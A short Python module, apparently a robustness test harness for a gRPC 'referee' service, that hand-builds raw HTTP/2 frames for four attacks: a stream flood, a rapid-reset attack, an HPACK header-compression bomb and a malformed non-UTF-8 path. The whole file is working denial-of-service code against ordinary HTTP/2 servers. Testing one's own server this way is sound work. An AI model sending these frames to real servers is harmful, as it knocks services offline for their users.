"""Attacks on a referee by raw HTTP/2: each yields what to send on one connection after its greeting."""

import itertools
import struct
from collections.abc import Iterator

HEADERS, RESET, SETTINGS = 1, 3, 4
END_OF_STREAM, END_OF_HEADERS = 1, 4
PATH = b"/referee.v1.RefereeService/Play"


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + body


def text(data: bytes) -> bytes:
    """Return a string of HPACK."""
    if len(data) < 127:
        return bytes((len(data),)) + data
    left = len(data) - 127
    return bytes((127, left % 128 + 128, left // 128)) + data


def headers(path: bytes = PATH) -> bytes:
    pairs = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"), (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )  # fmt: skip
    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs)


def stream_flood() -> Iterator[bytes]:
    """Streams without a hello."""
    for first in itertools.count(1, 200):
        yield b"".join(frame(HEADERS, END_OF_HEADERS, number, headers()) for number in range(first, first + 200, 2))


def rapid_reset() -> Iterator[bytes]:
    """Streams that are taken back immediately."""
    for first in itertools.count(1, 200):
        yield b"".join(
            frame(HEADERS, END_OF_HEADERS, number, headers()) + frame(RESET, 0, number, b"\0\0\0\x08")
            for number in range(first, first + 200, 2)
        )


def hpack_bomb() -> Iterator[bytes]:
    """One large header, remembered by the referee and then named 8,000 times in every request."""
    yield frame(HEADERS, END_OF_HEADERS, 1, headers() + b"\x40" + text(b"a") + text(b"v" * 3_900))
    for number in itertools.count(3, 2):
        yield frame(HEADERS, END_OF_HEADERS, number, headers() + b"\xbe" * 8_000)


def bad_path() -> Iterator[bytes]:
    """A path that is not UTF-8."""
    yield frame(HEADERS, END_OF_HEADERS | END_OF_STREAM, 1, headers(b"/\xff\xfe"))


GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
ATTACKS = {each.__name__: each for each in (stream_flood, rapid_reset, hpack_bomb, bad_path)}
